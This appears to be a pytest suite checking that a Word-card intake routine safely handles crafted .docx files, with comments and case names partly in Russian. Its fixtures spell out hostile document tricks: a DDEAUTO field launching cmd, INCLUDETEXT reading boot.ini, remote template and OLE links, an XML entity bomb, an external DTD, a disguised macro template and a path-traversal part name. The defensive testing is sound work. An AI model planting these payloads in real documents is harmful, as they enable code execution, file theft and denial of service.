"""Word cards made to harm or merely odd: told of or taken in safely; nothing is asked of the network or run."""

from __future__ import annotations

import shutil
import socket
from collections.abc import Callable
from typing import NoReturn

import pytest
from docx.oxml import parse_xml

from metodbank.intake.bring_in import bring_card
from tests.card_help import card, cell_of, document, part, put, saved, with_part
from tests.small_bank import SmallBank

SPACES = " ".join(
    f'xmlns:{name}="{space}"'
    for name, space in {
        "w": "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
        "mc": "http://schemas.openxmlformats.org/markup-compatibility/2006",
        "wps": "http://schemas.microsoft.com/office/word/2010/wordprocessingShape",
        "v": "urn:schemas-microsoft-com:vml",
        "o": "urn:schemas-microsoft-com:office:office",
    }.items()
)
RELATIONS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
AWAY = "http://192.0.2.1"
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)


def answered(fragment: str, row: str = "problem") -> Callable[[bytes], bytes]:
    """A card with a paragraph of raw XML put into an answer."""

    def put_in(raw: bytes) -> bytes:
        made = document(raw)
        cell_of(made, row)._tc.append(parse_xml(f"<w:p {SPACES}>{fragment}</w:p>"))
        return saved(made)

    return put_in


def related(kind: str, target: str, mode: str = "External") -> Callable[[bytes], bytes]:
    """A card with one more relation of its document."""
    line = f'<Relationship Id="rId900" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return lambda raw: with_part(raw, RELATIONS, part(raw, RELATIONS).replace(b"</Relationships>", line.encode()))


def field(code: str, shown: str) -> str:
    """A field as Word writes it: its code, and what it last showed."""
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{shown}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


BOX = (
    '<w:r><mc:AlternateContent><mc:Choice Requires="wps"><wps:txbx><w:txbxContent><w:p><w:r><w:t>В рамке.</w:t></w:r>'
    "</w:p></w:txbxContent></wps:txbx></mc:Choice><mc:Fallback><w:pict><v:textbox><w:txbxContent><w:p><w:r>"
    "<w:t>В рамке.</w:t></w:r></w:p></w:txbxContent></v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r>"
)
CASES: dict[str, tuple[Callable[[bytes], bytes], str, str]] = {
    "текст в рамке": (answered(BOX), "", "В рамке."),
    "поле INCLUDETEXT": (answered(field('INCLUDETEXT "C:\\\\boot.ini"', "Было 12.")), "", "Было 12."),
    "поле DDEAUTO": (answered(field("DDEAUTO cmd /k calc", "Стало 30.")), "", "Стало 30."),
    "поле INCLUDEPICTURE": (answered(field(f"INCLUDEPICTURE {AWAY}/a.png", "Снимок.")), "", "Снимок."),
    "чужой шаблон": (related("attachedTemplate", f"{AWAY}/t.dotm"), "ссылка на чужой файл (шаблон)", ""),
    "чужой объект": (related("oleObject", f"{AWAY}/t.xls"), "ссылка на чужой файл (объект)", ""),
    "вставленный документ": (related("aFChunk", "chunk.html", "Internal"), "вставленный целиком документ", ""),
    "сущности в чужом XML": (lambda raw: with_part(raw, "customXml/item9.xml", LAUGHS), "определения XML", ""),
    "внешнее определение": (
        lambda raw: with_part(raw, "customXml/item9.xml", f'<!DOCTYPE a SYSTEM "{AWAY}/a.dtd"><a/>'.encode()),
        "определения XML",
        "",
    ),
    "шаблон с макросами под именем docx": (
        lambda raw: with_part(
            with_part(raw, "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
            "[Content_Types].xml",
            part(raw, "[Content_Types].xml").replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
            ),
        ),
        "макросы: они отброшены",
        "",
    ),
    "имя части ведёт наружу": (lambda raw: with_part(raw, "word/media/../../../../zlo.png", b"x"), "", ""),
}


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> SmallBank:
    return SmallBank.copied(tmp_path_factory.mktemp("lab"))


@pytest.mark.thorough
@pytest.mark.parametrize("name", CASES)
def test_a_hostile_card_harms_nothing(name: str, lab: SmallBank, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object) -> NoReturn:
        raise AssertionError("something is asked of the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    spoil, told, kept = CASES[name]
    around = lab.root.parent
    sent = put(around / "mail", spoil(card()))
    before = {path for path in around.rglob("*") if path.is_file()}
    (brought,) = bring_card(sent, lab.settings)
    made = {path for path in around.rglob("*") if path.is_file()} - before
    text = brought.file.read_text(encoding="utf-8") if brought.file else ""
    assert all(path.is_relative_to(lab.root / "practices/schyot-na-rynke") for path in made)
    if brought.file is not None:
        shutil.rmtree(brought.file.parent)
    assert any(told in problem.message for problem in brought.problems)
    assert not kept or text.count(kept) == 1, "the answer is there, once"
    assert not any(word in text for word in ("INCLUDE", "DDEAUTO", AWAY, "hahaha", "boot.ini"))
